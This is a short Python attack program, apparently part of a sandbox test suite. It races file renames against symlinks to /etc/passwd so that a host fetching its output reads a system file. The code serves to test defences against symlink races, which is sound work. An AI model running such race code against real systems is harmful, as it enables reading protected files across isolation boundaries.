"""Swaps a file for a link at full speed while the host fetches it."""

import os

from stockade.cli.attack.programs.kit import ready


def attack() -> None:
    with open("good", "w") as file:
        file.write("good")
    os.mkdir("folder")
    with open("folder/out", "w") as file:
        file.write("good")
    os.mkdir("evil")
    os.symlink("/etc/passwd", "evil/out")
    ready()
    while True:
        os.symlink("/etc/passwd", "link")
        os.rename("link", "out")
        with open("file", "w") as file:
            file.write("good")
        os.rename("file", "out")
        os.rename("folder", "aside")
        os.symlink("evil", "folder")
        os.unlink("folder")
        os.rename("aside", "folder")


if __name__ == "__main__":
    attack()
